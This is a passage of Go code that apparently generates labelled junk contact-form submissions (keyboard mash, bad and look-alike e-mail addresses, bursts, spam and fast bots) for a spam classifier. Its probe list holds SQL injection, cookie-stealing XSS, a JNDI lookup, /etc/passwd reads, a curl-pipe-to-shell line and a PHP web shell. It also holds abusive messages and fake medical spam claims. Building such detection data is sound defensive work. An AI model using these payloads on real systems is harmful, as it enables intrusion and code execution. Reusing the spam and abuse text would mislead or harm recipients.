			for i := 0; i < 4; i++ {
				if i == 0 && !withDigits {
					continue
				}
				if row := r(i); c < len(row) {
					s = append(s, row[c])
				}
			}
		}
	case 2: // two neighbouring keys back and forth (jkjkj, asasas)
		row := r(g.between(1, 3))
		i := g.intn(len(row) - 1)
		for k := g.between(5, 10); k > 0; k-- {
			s = append(s, row[i+k%2])
		}
	case 3: // the same three or four keys repeated (asdasdasd)
		row := r(g.between(1, 3))
		l := g.between(3, 4)
		st := g.intn(len(row) - l + 1)
		for k := g.between(2, 3); k > 0; k-- {
			s = append(s, row[st:st+l]...)
		}
	default: // random presses on a small patch of one row
		row := r(g.between(1, 3))
		st := g.intn(len(row) - 3)
		for k := g.between(5, 11); k > 0; k-- {
			s = append(s, row[st+g.intn(4)])
		}
	}
	out := string(s)
	if g.chance(0.3) {
		rs := []rune(out)
		out = strings.ToUpper(string(rs[:1])) + string(rs[1:])
	}
	return out
}

// genKeyboardMash: names, companies and messages mashed on QWERTY, QWERTZ,
// AZERTY and ЙЦУКЕН keyboards.
func genKeyboardMash(g *gen, n int) []Record {
	names := []string{"qwerty", "qwerty", "qwertz", "azerty", "jcuken"}
	accept := map[string]string{"qwerty": "en-US,en;q=0.9", "qwertz": "de-DE,de;q=0.9", "azerty": "fr-FR,fr;q=0.9", "jcuken": "ru-RU,ru;q=0.9"}
	out := make([]Record, 0, n)
	for len(out) < n {
		lay := g.pick(names)
		latin := lay
		if lay == "jcuken" {
			latin = "qwerty" // the address is still typed in Latin letters
		}
		loc := g.pickLoc()
		f := Fields{FirstName: g.mash(lay), LastName: g.mash(lay)}
		local := strings.ToLower(g.mash(latin))
		if g.chance(0.4) {
			local += g.digits(g.between(1, 3))
		}
		switch g.weighted(50, 30, 20) {
		case 0:
			f.Email = local + "@" + g.pick(split("gmail.com|yahoo.com|mail.ru|hotmail.com|gmx.de|outlook.com|yandex.ru|orange.fr"))
		case 1:
			f.Email = local + "@" + strings.ToLower(g.mash(latin)) + "." + g.pick(split("com|net|de|ru|fr"))
		default:
			p := g.newPerson(loc)
			f.Email = g.freeEmail(p) // a real address with mashed names
		}
		if g.chance(0.5) {
			f.Company = g.mash(lay)
		}
		if g.chance(0.2) {
			f.JobTitle = g.mash(lay)
		}
		if g.chance(0.3) {
			f.Phone = g.pick([]string{g.digits(g.between(5, 11)), "1234567", strings.Repeat(g.digits(1), 8)})
		}
		switch g.weighted(40, 30, 30) {
		case 0:
			f.Message = g.mash(lay)
		case 1:
			f.Message = g.mash(lay) + " " + g.mash(lay) + g.maybe(0.5, " "+g.mash(lay))
		}
		if g.chance(0.2) {
			f.LastName = f.FirstName
		}
		c := g.browserCtx(loc, "contact-sales")
		if g.chance(0.6) {
			c.AcceptLanguage = accept[lay]
		}
		out = append(out, Record{Fields: f, Context: c, Category: "gibberish"})
	}
	return out
}

// Confusable letters for the e-mail domain: Cyrillic, Greek, dotless i and
// full-width forms of ASCII letters.
var confusable = map[rune][]string{
	'a': {"а", "ɑ"}, 'o': {"о", "ο", "0"}, 'e': {"е"}, 'c': {"с"}, 'p': {"р"}, 'x': {"х"}, 'y': {"у"}, 'i': {"ı", "і"}, 'l': {"ӏ", "1"}, 'm': {"rn"},
}

// confuse swaps one letter of the domain's first label for a look-alike,
// or writes the whole domain in full-width letters.
func (g *gen) confuse(domain string) string {
	if g.chance(0.15) {
		var b strings.Builder
		for _, r := range domain {
			switch {
			case r >= 'a' && r <= 'z':
				b.WriteRune(r - 'a' + 'ａ')
			case r == '.':
				b.WriteRune('．')
			default:
				b.WriteRune(r)
			}
		}
		return b.String()
	}
	label, rest, _ := strings.Cut(domain, ".")
	rs := []rune(label)
	var idx []int
	for i, r := range rs {
		if _, ok := confusable[r]; ok {
			idx = append(idx, i)
		}
	}
	if len(idx) == 0 {
		return domain + "."
	}
	i := idx[g.intn(len(idx))]
	sub := g.pick(confusable[rs[i]])
	return string(rs[:i]) + sub + string(rs[i+1:]) + "." + rest
}

// genInvalidEmail: otherwise plausible people whose address cannot be
// delivered: trailing dot, misspelt or missing TLD, two @, spaces, double
// dots, look-alike letters, and RFC 2047 encoded words as the local part.
func genInvalidEmail(g *gen, n int) []Record {
	out := make([]Record, 0, n)
	for len(out) < n {
		loc := g.pickLoc()
		p := g.newPerson(loc)
		good := g.workEmail(p)
		if g.chance(0.4) {
			good = g.freeEmail(p)
		}
		local, domain, _ := strings.Cut(good, "@")
		var email string
		switch g.weighted(14, 16, 7, 6, 6, 6, 6, 16, 8, 5, 5, 5) {
		case 0:
			email = good + "."
		case 1:
			name, _, _ := strings.Cut(domain, ".")
			email = local + "@" + name + "." + g.pick(split("con|cmo|comm|ocm|vom|xom|coom|cpm|cim|con.|nett|ogr|orgg|dee|frr|c|co.|cm.uk|couk|com.b"))
		case 2:
			name, _, _ := strings.Cut(domain, ".")
			email = local + "@" + name
		case 3:
			email = local + "@@" + domain
			if g.chance(0.5) {
				email = local + "@" + domain + "@" + domain
			}
		case 4:
			email = local + g.pick(split(".|")) + domain // the @ forgotten
		case 5:
			email = strings.Replace(good, "@", g.pick(split(" @|@ | @ ")), 1)
			if g.chance(0.4) {
				email = p.first.latin + " " + p.last.latin + "@" + domain
			}
		case 6:
			email = strings.Replace(local, ".", "..", 1) + "@" + domain
			if !strings.Contains(local, ".") {
				email = local + "@" + strings.Replace(domain, ".", "..", 1)
			}
		case 7:
			email = local + "@" + g.confuse(domain)
		case 8:
			enc := base64.StdEncoding.EncodeToString([]byte(g.pick(split("info|admin|Наталья|support|ceo|root|sales"))))
			email = g.pick([]string{"=?utf-8?b?" + enc + "?=", "=?UTF-8?B?" + enc + "?=", "=?utf-8?q?" + strings.ToLower(local) + "=40" + "?=", "=?iso-8859-1?q?" + local + "?="}) + "@" + domain
		case 9:
			email = local + "@" + strings.Replace(domain, ".", ",", 1)
		case 10:
			email = g.pick(split(".|")) + local + g.pick(split(".|")) + "@" + domain
			if !strings.HasPrefix(email, ".") && !strings.Contains(email, ".@") {
				email = local + ".@" + domain
			}
		default:
			email = local + "@" + g.pick(split("-|_")) + domain
			if g.chance(0.5) {
				email = local + "@" + strings.Replace(domain, ".", "_", 1) + ".com"
			}
		}
		f := g.fill(p, email)
		lang := g.msgLang(loc, 0.4)
		if g.chance(0.6) {
			f.Message = g.requestMessage(lang, p)
		} else {
			f.Message = g.fillIn(g.pick(banks[lang].question), p)
		}
		form := g.form()
		if form == "newsletter" {
			f.Message, f.Company, f.JobTitle, f.Phone = "", "", "", ""
		}
		out = append(out, Record{FormID: form, Fields: f, Context: g.ctxFor(loc, form), Category: "invalid_email"})
	}
	return out
}

// Probes that scanners and form bots send.
var probes = []string{
	`' OR '1'='1`, `1' OR 1=1--`, `admin'--`, `1; DROP TABLE users;--`, `" OR ""="`, `1 AND SLEEP(5)`,
	`1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)--`, `' UNION SELECT NULL,NULL,version()--`,
	`<script>alert(1)</script>`, `<img src=x onerror=alert(document.cookie)>`, `"><svg/onload=alert(1)>`,
	`javascript:alert(1)`, `{{7*7}}`, `${7*7}`, `${jndi:ldap://x{n}.oast.fun/a}`, `../../../../etc/passwd`,
	`;cat /etc/passwd`, `$(curl -s http://{d}/x.sh|sh)`, `<?php system($_GET['c']); ?>`, `%27%20OR%201%3D1--`,
	`{"$gt":""}`, `WAITFOR DELAY '0:0:5'--`, `<iframe src=//evil.example>`, `sleep(5)#`, `|| ping -c 10 127.0.0.1 ||`,
}

// genContentBot: bots that pass the timing and header checks (a real
// browser engine, human-looking timing) but fill the form with junk: the
// field labels themselves, random-case strings, one value everywhere,
// injection probes, keyword stuffing, unfilled mail-merge placeholders and
// unexpanded spintax.
func genContentBot(g *gen, n int) []Record {
	out := make([]Record, 0, n)
	for len(out) < n {
		loc := g.pickLoc()
		p := g.newPerson(loc)
		var f Fields
		switch g.weighted(16, 16, 14, 16, 12, 16, 10) {
		case 0: // field labels as values
			set := g.weighted(60, 20, 20)
			labels := [][]string{
				{"First Name", "Last Name", "Company", "Job Title", "Phone", "Country", "Message"},
				{"first_name", "last_name", "company", "job_title", "phone", "country", "message"},
				{"Vorname", "Nachname", "Firma", "Position", "Telefon", "Land", "Nachricht"},
			}[set]
			f = Fields{Email: g.botLocal(p) + "@" + g.pick(freeMailDomains), FirstName: labels[0], LastName: labels[1], Company: labels[2], JobTitle: g.maybe(0.5, labels[3]), Phone: g.maybe(0.5, labels[4]), Country: g.maybe(0.5, labels[5]), Message: labels[6]}
			if g.chance(0.3) {
				f.Email = g.pick(split("email|Email|E-mail|your@email.com|Your Email"))
			}
		case 1: // random-case strings
			rc := func(a, b int) string {
				rs := []rune(g.lower(g.between(a, b)))
				for i := range rs {
					if g.chance(0.5) {
						rs[i] -= 32
					}
				}
				return string(rs)
			}
			f = Fields{Email: g.lower(g.between(6, 10)) + "@" + g.pick(split("gmail.com|outlook.com|yahoo.com|hotmail.com")), FirstName: rc(6, 12), LastName: rc(6, 12), Company: g.maybe(0.6, rc(5, 14)), Phone: g.maybe(0.3, g.digits(10)), Message: rc(8, 20)}
			if g.chance(0.4) {
				f.Message = rc(4, 9) + " " + rc(4, 9) + " " + rc(4, 9) + " " + rc(4, 9)
			}
		case 2: // one value in every field
			v := g.pick([]string{"1", "test", "hello", "aaa", "0", "null", "undefined", "N/A", "none", syllables(g, 2), g.botLocal(p) + "@gmail.com"})
			f = Fields{Email: v, FirstName: v, LastName: v, Company: v, JobTitle: g.maybe(0.6, v), Phone: g.maybe(0.6, v), Country: g.maybe(0.5, v), Message: v}
			if !strings.Contains(v, "@") && g.chance(0.5) {
				f.Email = v + "@" + v + ".com"
			}
		case 3: // injection probes
			f = g.fill(p, g.freeEmail(p))
			k := g.between(1, 3)
			for i := 0; i < k; i++ {
				pr := strings.NewReplacer("{n}", g.digits(6), "{d}", g.spamDomain("seo")).Replace(g.pick(probes))
				switch g.intn(5) {
				case 0:
					f.FirstName = pr
				case 1:
					f.LastName = pr
				case 2:
					f.Company = pr
				case 3:
					f.Email = g.pick([]string{pr, "test@test.com" + pr, "'||(select 1)||'@x.com"})
				default:
					f.Message = pr
				}
			}
			if f.Message == "" || g.chance(0.4) {
				f.Message = strings.NewReplacer("{n}", g.digits(6), "{d}", g.spamDomain("seo")).Replace(g.pick(probes))
			}
		case 4: // keyword stuffing
			kw := g.pick([]string{
				"seo services|best seo company|seo agency|cheap seo|seo expert|local seo|seo backlinks",
				"online casino|casino bonus|free spins|best casino|slots online|casino no deposit",
				"buy instagram followers|cheap followers|real followers|instagram likes|tiktok followers",
				"web design company|website development|wordpress developer|ecommerce website|cheap web design",
				"essay writing service|write my essay|cheap essays|paper writing help|homework help",
			})
			words := split(kw)
			var b []string
			for i := g.between(8, 20); i > 0; i-- {
				b = append(b, g.pick(words))
			}
			f = Fields{Email: g.spamEmail("seo"), FirstName: g.pick(words), LastName: g.maybe(0.4, g.pick(words)), Company: g.maybe(0.5, capitalize(g.pick(words))), Message: strings.Join(b, g.pick(split(" |, | | ")))}
		case 5: // unfilled mail-merge placeholders
			ph := g.pick([]string{"{{first_name}}", "[NAME]", "%FIRSTNAME%", "{first}", "*|FNAME|*", "{$name}", "<<First Name>>", "[Your Name]", "{{ contact.firstname }}", "#FirstName#"})
			phL := g.pick([]string{"{{last_name}}", "[SURNAME]", "%LASTNAME%", "{last}", "*|LNAME|*", "<<Last Name>>", ""})
			phC := g.pick([]string{"{{company_name}}", "[COMPANY]", "%COMPANY%", "{company}", "<<Company>>", "[Company Name]", "{{ company.name }}"})
			f = g.fill(p, g.freeEmail(p))
			switch g.intn(3) {
			case 0:
				f.FirstName, f.LastName = ph, phL
			case 1:
				f.Company = phC
			}
			f.Message = g.pick([]string{
				"Hi " + ph + ", I noticed " + phC + " is growing fast and wanted to share how we help teams like yours.",
				"Hello " + ph + ",\n\nI hope this finds you well at " + phC + ". [INSERT PERSONALISED LINE HERE]",
				"Dear " + ph + ", we would love to feature " + phC + " in our next industry report. Reply to this email to claim your spot.",
				"Hi " + ph + ", quick question about " + phC + "'s " + g.pick(split("website|marketing|hiring plans|[PAIN POINT]")) + ".",
			})
		default: // unexpanded spintax
			f = g.fill(p, g.freeEmail(p))
			f.Message = g.pick([]string{
				"{Hi|Hello|Hey} {there|friend}, {I|we} {found|came across} your {website|site} and {wanted|would like} to {offer|propose} {our|my} {services|help}.",
				"{Great|Awesome|Nice} {website|site|page}! {Check|Visit} {mine|my blog} {too|as well}.",
				"{Do you need|Are you looking for} {more leads|more traffic|more customers}? {Reply|Write back} {today|now}.",
				"{Hello|Good day}, {we|our team} {can|will} {boost|grow} your {sales|revenue} {fast|quickly}. {Contact|Email} {us|me}!",
			})
		}
		c := g.browserCtx(loc, "contact-sales")
		if c.ElapsedMS == nil || g.chance(0.5) {
			c.ElapsedMS = ms(int64(g.between(4000, 40000)))
		}
		out = append(out, Record{Fields: f, Context: c, Category: "bot"})
	}
	return out
}

// genBurst: rows that are each plausible alone and junk together: the same
// address many times in minutes, one IP signing up many addresses
// (subscription bombing), one IP rotating names with the same message.
func genBurst(g *gen, n int) []Record {
	out := make([]Record, 0, n)
	for len(out) < n {
		size := min(g.between(4, 14), n-len(out))
		if n-len(out)-size > 0 && n-len(out)-size < 4 {
			size = n - len(out) // never leave a burst too small to be one
		}
		start := g.when()
		t := start
		kind := g.weighted(35, 35, 30)
		loc := g.pickLoc()
		base := g.newPerson(loc)
		sameEmail := g.workEmail(base)
		if g.chance(0.5) {
			sameEmail = g.freeEmail(base)
		}
		ip := g.ip()
		ua := g.browserUA()
		form := "contact-sales"
		if kind == 1 {
			form = "newsletter"
		}
		msg := g.requestMessage(g.msgLang(loc, 0.3), base)
		for i := 0; i < size; i++ {
			t = t.Add(time.Duration(g.between(3, 75)) * time.Second)
			var f Fields
			c := Context{IP: ip, UserAgent: ua, AcceptLanguage: loc.accept, Referer: g.referer(form), ElapsedMS: ms(int64(g.between(3200, 12000)))}
			switch kind {
			case 0: // the same address again and again
				p := base
				if g.chance(0.5) {
					p = g.newPerson(loc)
				}
				f = g.fill(p, sameEmail)
				f.Message = g.fillIn(g.pick(banks["en"].short), p)
				if g.chance(0.5) {
					c.IP = g.ip() // rotating proxies, same address
				}
			case 1: // many victims' addresses from one IP on the newsletter
				vl := g.pickLoc()
				p := g.newPerson(vl)
				email := g.freeEmail(p)
				if g.chance(0.4) {
					email = g.workEmail(p)
				}
				f = Fields{Email: email, FirstName: g.maybe(0.6, p.first.native)}
			default: // one IP, new name each time, same message
				p := g.newPerson(loc)
				f = g.fill(p, g.workEmail(p))
				f.Message = msg
			}
			out = append(out, Record{FormID: form, Fields: f, Context: c, Category: "bot", at: t})
		}
	}
	return out
}

// Abusive messages: insults and threats, no offer and no question. Written
// for this generator; kept to profanity and insults, without slurs.
var abuseLines = map[string][]string{
	"en": split("Your product is garbage and so are you. Stop calling me!!!|you people are scammers, f*** off|Take me off your list or I will find your office.|What a load of crap. Idiots.|STOP EMAILING ME YOU MORONS|I hope your company burns to the ground.|Worst company ever, f**k you all|shut up and die|You absolute clowns. Fix your damn site."),
	"de": split("Ihr seid doch alle Idioten!|Scheißladen, hört auf mich anzurufen!!!|Verpisst euch mit eurer Werbung.|Was für ein Drecksprodukt. Betrüger!"),
	"fr": split("Bande d'escrocs, arrêtez de m'appeler !|C'est de la merde votre truc.|Allez vous faire voir, bande de nuls.|Vous êtes des voleurs."),
	"es": split("Son unos estafadores de mierda.|Dejen de llamarme, imbéciles.|Qué asco de empresa, ojalá quiebren.|Váyanse a la mierda."),
	"pt": split("Vocês são uns golpistas, parem de me ligar!|Que porcaria de empresa.|Vão se ferrar, seus idiotas."),
	"it": split("Siete dei truffatori, vergognatevi.|Che schifo di servizio, andate a quel paese.|Smettetela di chiamarmi, idioti!"),
	"pl": split("Oszuści! Przestańcie dzwonić, kurwa.|Co za gówniana firma.|Idioci, usuńcie mój numer."),
	"ru": split("Вы мошенники, хватит мне звонить!|Идиоты, удалите мой номер.|Отвратительная контора, чтоб вы разорились.|Пошли вы со своей рекламой."),
	"nl": split("Oplichters! Bel me nooit meer.|Wat een waardeloze rotzooi, sukkels."),
}

// genAbusive: abusive and profane messages, some under a real-looking
// name, some under a rude one.
func genAbusive(g *gen, n int) []Record {
	langs := split("en|en|en|de|fr|es|pt|it|pl|ru|nl")
	out := make([]Record, 0, n)
	for len(out) < n {
		loc := g.pickLoc()
		lang := loc.lang
		if _, ok := abuseLines[lang]; !ok || g.chance(0.3) {
			lang = g.pick(langs)
		}
		p := g.newPerson(loc)
		f := g.fill(p, g.freeEmail(p))
		f.Company, f.JobTitle = g.maybe(0.3, f.Company), ""
		if g.chance(0.3) {
			f.FirstName, f.LastName = g.pick(split("F*** You|Go Away|Not Your|Your Worst|Idiot|Angry|Mr|Nobody")), g.pick(split("Off|Nightmare|Customer|Idiots|Detector|"))
		}
		msg := g.pick(abuseLines[lang])
		if g.chance(0.3) {
			msg += " " + g.pick(abuseLines[lang])
		}
		if g.chance(0.2) {
			msg = strings.ToUpper(msg)
		}
		f.Message = msg
		out = append(out, Record{Fields: f, Context: g.browserCtx(loc, "contact-sales"), Category: "abuse"})
	}
	return out
}

// Supplement and pharmacy advertising without any link: the product name,
// a health claim, a price and "order on the official site" or a phone.
var (
	suppProducts = split("Keto Gummies|KetoBurn Pro|CBD Oil 30%|Cardio Balance|Prostatin Forte|FlexiJoint Gel|Visiol Drops|Hondrocream|Diabextan|Hypertonium|SlimFit Tea|HairMax Serum|Potencialex|Maxi Power|ParaGuard|Detoxin|Insuvit|OstyHealth")
	suppLines    = map[string][]string{
		"en": split("{p} melts belly fat without diet or exercise. Today only -50%, order on the official website.|Doctors are shocked: {p} cures joint pain in 14 days. Limited stock!|Lower your blood pressure naturally with {p}. Order now at a special price.|{p} — natural male enhancement, discreet delivery, no prescription needed.|Lose 10 kg in a month with {p}! Call {phone} to order."),
		"de": split("{p} — Abnehmen ohne Diät! Nur heute 50 % Rabatt, bestellen Sie auf der offiziellen Website.|Potenzmittel ohne Rezept, diskreter Versand. {p} jetzt bestellen.|Gelenkschmerzen? {p} hilft in 2 Wochen. Nur in der Apotheke nicht erhältlich!"),
		"fr": split("{p} : perdez 8 kilos en 3 semaines sans régime ! Commandez sur le site officiel.|Viagra générique pas cher, livraison discrète, sans ordonnance.|{p} soulage les articulations en 10 jours. Prix promo -50 %."),
		"es": split("{p}: adelgaza sin dieta ni ejercicio. ¡Pide hoy con 50% de descuento en la web oficial!|Pastillas para la potencia masculina, envío discreto y sin receta.|{p} elimina el dolor de articulaciones en 14 días."),
		"it": split("{p}: dimagrisci senza dieta! Ordina oggi sul sito ufficiale con lo sconto del 50%.|Pillole per l'erezione senza ricetta, spedizione discreta.|{p} contro la pressione alta, rimedio naturale."),
		"pt": split("{p}: emagreça sem dieta! Peça hoje no site oficial com 50% de desconto.|Remédio natural para pressão alta, {p}. Estoque limitado!|Comprimidos para potência sem receita, entrega discreta."),
		"pl": split("{p} — schudnij bez diety! Zamów dziś na oficjalnej stronie, rabat 50%.|Tabletki na potencję bez recepty, dyskretna wysyłka.|{p} na bóle stawów, efekt w 14 dni."),
		"ro": split("{p}: slăbești fără dietă! Comandă azi de pe site-ul oficial cu reducere 50%.|Tratament natural pentru prostatită, {p}."),
		"ru": split("{p} — похудение без диет! Закажите сегодня со скидкой 50% на официальном сайте.|Средство для потенции без рецепта, анонимная доставка.|{p} от боли в суставах, результат за 14 дней. Звоните {phone}."),
		"cs": split("{p}: zhubněte bez diety! Objednejte dnes na oficiálních stránkách se slevou 50 %."),
		"nl": split("{p}: afvallen zonder dieet! Bestel vandaag met 50% korting op de officiële website."),
	}
)

// genSupplementAds: supplement and pharmacy adverts in European languages
// without any link, from a browser at human speed.
func genSupplementAds(g *gen, n int) []Record {
	langs := split("en|en|de|fr|es|it|pt|pl|ro|ru|cs|nl")
	out := make([]Record, 0, n)
	for len(out) < n {
		loc := g.pickLoc()
		lang := loc.lang
		if _, ok := suppLines[lang]; !ok || g.chance(0.4) {
			lang = g.pick(langs)
		}
		prod := g.pick(suppProducts)
		phone := "+" + g.pick(split("7|40|48|39|34|49|1")) + " " + g.digits(3) + " " + g.digits(3) + " " + g.digits(3)
		msg := strings.NewReplacer("{p}", prod, "{phone}", phone).Replace(g.pick(suppLines[lang]))
		if g.chance(0.3) {
			msg += " " + strings.NewReplacer("{p}", g.pick(suppProducts), "{phone}", phone).Replace(g.pick(suppLines[lang]))
		}
		var f Fields
		if g.chance(0.5) {
			p := g.newPerson(loc)
			f = g.fill(p, g.freeEmail(p))
			f.Company, f.JobTitle = "", ""
		} else {
			first, last := g.spamName(lang)
			f = Fields{Email: g.spamEmail("pharma"), FirstName: first, LastName: last}
			if g.chance(0.4) {
				f.FirstName, f.LastName = prod, g.pick(split("Official|Store|Shop|Apotheke|Farmacia|"))
			}
		}
		f.Message = msg
		out = append(out, Record{Fields: f, Context: g.browserCtx(loc, "contact-sales"), Category: "spam"})
	}
	return out
}

var scriptUAs = split("python-requests/2.32.3|python-requests/2.31.0|curl/8.5.0|curl/7.81.0|Go-http-client/1.1|Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36|Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/534.34|Scrapy/2.11.2 (+https://scrapy.org)|Wget/1.21.4|libwww-perl/6.77|Java/17.0.10|node-fetch/1.0 (+https://github.com/bitinn/node-fetch)|aiohttp/3.9.5|Apache-HttpClient/4.5.14 (Java/17.0.2)|okhttp/3.12.1|Mozilla/5.0|Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)|")

// genFastBot: the classic bots: a filled honeypot (often with otherwise
// plausible content), submissions within a second, and script clients
// without a browser's headers.
func genFastBot(g *gen, n int) []Record {
	out := make([]Record, 0, n)
	for len(out) < n {
		loc := g.pickLoc()
		p := g.newPerson(loc)
		f := g.fill(p, g.workEmail(p))
		if g.chance(0.5) {
			f.Email = g.freeEmail(p)
		}
		lang := g.msgLang(loc, 0.3)
		if g.chance(0.5) {
			f.Message = g.requestMessage(lang, p)
		} else {
			topic := g.pick(spamTopicOf)
			f.Message = strings.NewReplacer("{link}", "https://"+g.spamDomain(topic), "{handle}", g.handle("en")).Replace(g.pick(spamLines["en"]))
		}
		c := g.browserCtx(loc, "contact-sales")
		switch g.weighted(35, 25, 25, 15) {
		case 0: // honeypot filled, timing and headers fine
			f.WebsiteURL = g.pick([]string{"https://" + g.spamDomain("seo"), "http://" + p.domain, "www." + g.spamDomain("casino"), f.FirstName, "1", g.lower(8), f.Email})
		case 1: // a browser, but far too fast
			c.ElapsedMS = ms(int64(g.between(40, 950)))
		case 2: // a script client
			c = Context{IP: g.ip(), UserAgent: g.pick(scriptUAs), AcceptLanguage: g.maybe(0.2, "en-US,en;q=0.5"), Referer: g.maybe(0.2, g.referer("contact-sales"))}
			if g.chance(0.5) {
				c.ElapsedMS = ms(int64(g.between(0, 700)))
			}
		default: // all of it
			f.WebsiteURL = "https://" + g.spamDomain(g.pick(spamTopicOf))
			c = Context{IP: g.ip(), UserAgent: g.pick(scriptUAs), Referer: "", ElapsedMS: ms(int64(g.between(0, 400)))}
		}
		out = append(out, Record{Fields: f, Context: c, Category: "bot"})
	}
	return out
}

// capitalize upper-cases the first letter of every word.
func capitalize(s string) string {
	ws := strings.Fields(s)
	for i, w := range ws {
		ws[i] = strings.ToUpper(w[:1]) + w[1:]
	}
	return strings.Join(ws, " ")
}
